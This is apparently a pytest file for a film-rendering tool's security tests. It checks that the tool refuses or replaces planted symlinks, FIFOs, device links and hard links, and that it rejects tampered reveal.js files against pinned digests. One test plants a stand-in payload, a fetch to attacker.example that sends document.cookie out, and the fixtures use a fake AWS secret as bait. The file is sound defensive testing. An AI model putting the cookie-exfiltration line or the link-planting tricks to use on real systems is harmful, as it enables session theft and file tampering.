"""renders/ is a filesystem a stranger wrote (issue 54, its filesystem half): links, FIFOs and
devices planted at the fixed paths dtfilm writes, sweeps and copies are never followed; every
`--out` that is not a renders folder is refused before anything is made in it; the machine
cache's reveal.js is used only as its pinned digests say. Each test plants its attack in a tmp
folder and points only at other files in that tmp folder."""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

import pytest

from dtfilm.userfile import read_back
from tests.conftest import run_dtfilm

ROOT = Path(__file__).parent.parent
MARK = ".dtfilm-renders"  # (dtfilm.MARK; spelled out, so this file loads on code without it)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A copy of the film's storyboards, with an empty renders folder dtfilm made."""
    folder = tmp_path / "project"
    shutil.copytree(ROOT / "storyboard", folder / "storyboard")
    (folder / "renders").mkdir()
    (folder / "renders" / MARK).touch()
    return folder


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder outside the project, full of a user's files."""
    folder = tmp_path / "home"
    (folder / "notes").mkdir(parents=True)
    (folder / "notes" / "wedding.txt").write_text("keep")
    (folder / ".bashrc.tmp-keep").write_text("keep")
    (folder / "secret").write_text("export AWS_SECRET_ACCESS_KEY=hunter2\n")
    return folder


def _untouched(folder: Path) -> None:
    assert (folder / "notes" / "wedding.txt").read_text() == "keep"
    assert (folder / ".bashrc.tmp-keep").read_text() == "keep"
    assert (folder / "secret").read_text() == "export AWS_SECRET_ACCESS_KEY=hunter2\n"
    assert sorted(p.name for p in folder.iterdir()) == [".bashrc.tmp-keep", "notes", "secret"]


def _one_line_refusal(done, *words: str) -> None:
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    lines = [line for line in done.stderr.splitlines() if line.startswith("dtfilm: error:")]
    assert len(lines) == 1, done.stderr
    for word in words:
        assert word in lines[0], done.stderr


# 1. renders/.dtfilm-tmp as a link to a folder outside: the sweep emptied it.


def test_a_scratch_folder_linked_outside_is_replaced_not_swept(project: Path, outside: Path):
    os.symlink(outside, project / "renders" / ".dtfilm-tmp")
    done = run_dtfilm("clean", cwd=project)  # takes the render lock, whose first work is the sweep
    assert done.returncode == 0, done.stderr
    _untouched(outside)
    scratch = project / "renders" / ".dtfilm-tmp"
    assert scratch.is_dir() and not scratch.is_symlink(), "the linked scratch folder was not made again"


def test_a_sweep_unlinks_what_is_in_scratch_and_never_follows_it(project: Path, outside: Path):
    """A dead run's folder in scratch holding links out, and a link named as a dead run's file."""
    from dtfilm.system.atomic import sweep_scratch

    scratch = project / "renders" / ".dtfilm-tmp"
    (scratch / "999999999.media" / "deep").mkdir(parents=True)
    os.symlink(outside, scratch / "999999999.media" / "deep" / "home")
    os.symlink(outside / "notes", scratch / "999999999.leftover.mp4")
    (project / "renders" / "cache").mkdir()
    os.symlink(outside / ".bashrc.tmp-keep", project / "renders" / "cache" / ".x.tmp-link")
    sweep_scratch(project / "renders")
    _untouched(outside)
    assert os.listdir(scratch) == []
    assert not os.path.lexists(project / "renders" / "cache" / ".x.tmp-link")


# 2. renders/.dtfilm.lock as a link, a FIFO or a device: truncated and printed, or a traceback.


@pytest.mark.parametrize("planted", ["link-to-file", "fifo", "link-to-dev-zero"])
def test_a_planted_lock_file_is_refused_in_one_line(project: Path, outside: Path, planted: str):
    lock = project / "renders" / ".dtfilm.lock"
    if planted == "link-to-file":
        os.symlink(outside / "secret", lock)
    elif planted == "fifo":
        os.mkfifo(lock)
    elif planted == "link-to-dev-zero":
        os.symlink("/dev/zero", lock)
    done = run_dtfilm("clean", cwd=project)
    _one_line_refusal(done, ".dtfilm.lock")
    assert "AWS_SECRET" not in done.stderr + done.stdout
    _untouched(outside)


def test_a_lock_file_hard_linked_to_another_file_is_replaced_not_truncated(project: Path, outside: Path):
    os.link(outside / "secret", project / "renders" / ".dtfilm.lock")
    done = run_dtfilm("clean", cwd=project)
    assert done.returncode == 0, done.stderr
    assert "AWS_SECRET" not in done.stderr + done.stdout
    _untouched(outside)
    assert os.stat(project / "renders" / ".dtfilm.lock").st_nlink == 1


def test_a_lock_file_holding_anything_but_a_pid_is_not_printed(project: Path):
    (project / "renders" / ".dtfilm.lock").write_text("\x1b[2J forged: fresh\n" * 1000)
    done = run_dtfilm("clean", cwd=project)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stderr and "forged" not in done.stderr
    assert "an unknown process" in done.stderr


# 3. renders/shots, renders/cache, renders/reveal as links; renders/reveal/LICENSE as a link.


@pytest.mark.parametrize("name", ["cache", "shots", "one", "reveal"])
@pytest.mark.parametrize("command", [("clean",), ("status",)])
def test_a_fixed_folder_linked_outside_is_refused(project: Path, outside: Path, name: str, command: tuple[str]):
    os.symlink(outside, project / "renders" / name)
    done = run_dtfilm(*command, cwd=project)
    _one_line_refusal(done, f"renders/{name}", "is a link")
    _untouched(outside)


def test_a_write_under_renders_goes_through_no_link(project: Path, outside: Path):
    """A link planted deeper than the fixed folders (shots/<chapter>) is refused as it is written
    through; one planted at the file itself is replaced, not written through."""
    from dtfilm import beneath
    from dtfilm.errors import DtfilmError
    from dtfilm.system.atomic import write_text_atomic

    renders = project / "renders"
    beneath.register(renders)
    (renders / "shots").mkdir()
    os.symlink(outside / "notes", renders / "shots" / "dp")
    with pytest.raises(DtfilmError, match="is a link"):
        write_text_atomic(renders / "shots" / "dp" / "wedding.txt", "overwritten")
    os.symlink(outside / "secret", renders / "dp.vtt")
    write_text_atomic(renders / "dp.vtt", "WEBVTT\n")
    assert not (renders / "dp.vtt").is_symlink() and (renders / "dp.vtt").read_text() == "WEBVTT\n"
    _untouched(outside)


def test_read_back_follows_no_link_beneath_the_renders_folder(project: Path, outside: Path):
    from dtfilm import beneath

    renders = project / "renders"
    beneath.register(renders)
    (renders / "cache").mkdir()
    os.symlink(outside / "secret", renders / "cache" / "a.probe")
    os.symlink(outside, renders / "cache" / "up")
    os.mkfifo(renders / "cache" / "b.probe")
    assert read_back(renders / "cache" / "a.probe", 1000) is None
    assert read_back(renders / "cache" / "up" / "secret", 1000) is None
    assert read_back(renders / "cache" / "b.probe", 1000) is None  # not waited on
    (renders / "cache" / "c.probe").write_text("ab" * 10)
    assert read_back(renders / "cache" / "c.probe", 10) is None  # larger than its role's limit
    assert read_back(renders / "cache" / "c.probe", 100) == b"ab" * 10


@pytest.fixture
def fake_reveal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A machine cache's reveal.js folder, its files pinned as the deck's (their digests stand
    in for reveal.js's own: the test fetches nothing)."""
    from dtfilm.publish import slides

    bundle = tmp_path / "machine-cache" / "reveal.js-6.0.2"
    digests = {}
    for name in slides.REVEAL_FILES:
        (bundle / name).parent.mkdir(parents=True, exist_ok=True)
        (bundle / name).write_text(f"/* {name} */\n")
        digests[name] = hashlib.sha256((bundle / name).read_bytes()).hexdigest()
    monkeypatch.setattr(slides, "REVEAL_DIGESTS", digests, raising=False)  # (none before the pins)
    monkeypatch.setattr(slides, "reveal_bundle", lambda: bundle)
    monkeypatch.setattr(slides, "deck_shots", lambda *args: [])
    return bundle


def _slides(renders: Path) -> None:
    from dtfilm.publish.slides import build_slides

    build_slides(["dp"], renders, pptx=False)


def test_slides_replace_a_linked_reveal_file_never_writing_through_it(project: Path, outside: Path, fake_reveal):
    renders = project / "renders"
    (renders / "reveal").mkdir()
    os.symlink(outside / "secret", renders / "reveal" / "LICENSE")
    _slides(renders)
    _untouched(outside)
    assert not (renders / "reveal" / "LICENSE").is_symlink()
    assert (renders / "reveal" / "LICENSE").read_bytes() == (fake_reveal / "LICENSE").read_bytes()


def test_slides_refuse_a_reveal_folder_linked_outside(project: Path, outside: Path, fake_reveal):
    from dtfilm.errors import DtfilmError

    os.symlink(outside, project / "renders" / "reveal")
    with pytest.raises(DtfilmError, match="is a link"):
        _slides(project / "renders")
    _untouched(outside)
    assert not (outside / "dist").exists()


# 9. The machine cache's reveal.js is trusted: a planted dist/*.js, a linked LICENSE.


def test_a_planted_reveal_file_in_the_machine_cache_is_refused(project: Path, fake_reveal):
    from dtfilm.errors import DtfilmError

    (fake_reveal / "dist" / "reveal.js").write_text("fetch('https://attacker.example/' + document.cookie)")
    with pytest.raises(DtfilmError, match="SHA-256"):
        _slides(project / "renders")
    assert not (project / "renders" / "reveal" / "dist" / "reveal.js").exists()


def test_a_linked_file_in_the_machine_cache_is_not_copied_into_the_deck(
    project: Path, outside: Path, fake_reveal: Path
):
    from dtfilm.errors import DtfilmError

    (fake_reveal / "LICENSE").unlink()
    os.symlink(outside / "secret", fake_reveal / "LICENSE")
    with pytest.raises(DtfilmError, match="is a link"):
        _slides(project / "renders")
    assert not (project / "renders" / "reveal" / "LICENSE").exists()


def test_the_pinned_reveal_digests_are_reveal_js_6_0_2():
    """The pins are the registry tarball's (reveal.js-6.0.2.tgz): checked here against the
    machine cache's copy when this machine has one."""
    from dtfilm.publish.slides import REVEAL_DIGESTS, REVEAL_VERSION, pinned_reveal
    from dtfilm.system.machine import machine_cache

    assert REVEAL_VERSION == "6.0.2" and len(REVEAL_DIGESTS) == 7
    cached = machine_cache() / "reveal.js-6.0.2"
    if not cached.is_dir():
        pytest.skip("no reveal.js in this machine's cache")
    assert set(pinned_reveal(cached)) == set(REVEAL_DIGESTS)


# 4. The docs plugins copy a linked sidecar into the site.


def test_docs_sites_copy_regular_files_from_inside_renders_only(tmp_path: Path, outside: Path):
    from dtfilm.publish.docs_embed import BUILD_FOLDER, copy_clip_files

    renders = tmp_path / "renders"
    renders.mkdir()
    (renders / "dp.mp4").write_bytes(b"\0\0\0\x18ftypmp42")
    os.symlink(outside / "secret", renders / "dp.vtt")
    os.mkfifo(renders / "dp.png")
    os.symlink("/dev/zero", renders / "dp.numbers.json")
    site = tmp_path / "site"
    warnings = copy_clip_files([("dp", renders)], site)
    copied = site / BUILD_FOLDER
    assert (copied / "dp.mp4").read_bytes() == b"\0\0\0\x18ftypmp42"
    for name in ("dp.vtt", "dp.png", "dp.numbers.json"):
        assert not os.path.lexists(copied / name), f"{name} was copied into the site"
    assert len(warnings) == 3 and all("not copied" in w for w in warnings), warnings


# 5. `--out DIR` on an ordinary folder: clean deleted the user's files and made its own there.


@pytest.mark.parametrize("command", ["clean", "status", "slides", "embed"])
def test_a_folder_that_is_not_a_renders_folder_is_refused_by_every_command(project: Path, tmp_path: Path, command: str):
    folder = tmp_path / "photos"
    (folder / "cache").mkdir(parents=True)
    (folder / "cache" / "settings.json").write_text("{}")
    (folder / "shots" / "photos").mkdir(parents=True)
    (folder / "shots" / "photos" / "wedding.jpg").write_bytes(b"jpeg")
    (folder / "one").mkdir()
    (folder / "one" / "notes.txt").write_text("keep")
    before = sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))
    args = [command, "--out", str(folder)] + (["dp"] if command == "embed" else [])
    done = run_dtfilm(*args, cwd=project)
    _one_line_refusal(done, "not a dtfilm renders folder")
    assert sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) == before, "something was made or removed"


def test_render_may_make_its_out_folder_but_refuses_a_full_one(project: Path, tmp_path: Path):
    folder = tmp_path / "full"
    folder.mkdir()
    (folder / "thesis.tex").write_text("keep")
    done = run_dtfilm("render", "dp", "--out", str(folder), cwd=project)
    _one_line_refusal(done, "not a dtfilm renders folder")
    assert os.listdir(folder) == ["thesis.tex"]
    # a missing folder passes the check (the render would make and mark it); bad input after
    # it still leaves nothing made
    done = run_dtfilm("render", "no-such-chapter", "--out", str(tmp_path / "new"), cwd=project)
    _one_line_refusal(done, "no chapter")
    assert not (tmp_path / "new").exists()


def test_a_renders_folder_is_marked_and_accepted(project: Path, tmp_path: Path):
    """An empty folder a command may make into a renders folder is marked as the lock is taken;
    one with a manifest (from before the mark) is one too."""
    from dtfilm.render.lock import render_lock

    empty = tmp_path / "empty"
    empty.mkdir()
    with render_lock(empty):
        pass
    assert (empty / MARK).is_file()
    older = tmp_path / "older"
    older.mkdir()
    (older / "manifest.json").write_text('{"chapters": {}}')
    assert run_dtfilm("clean", "--out", str(older), cwd=project).returncode == 0
    assert run_dtfilm("clean", "--out", str(empty), cwd=project).returncode == 0


def test_an_empty_folder_is_read_but_not_written_by_a_command_that_does_not_render(project: Path, tmp_path: Path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert run_dtfilm("status", "--out", str(empty), cwd=project).returncode == 0
    _one_line_refusal(run_dtfilm("clean", "--out", str(empty), cwd=project), "not a dtfilm renders folder")
    assert os.listdir(empty) == []
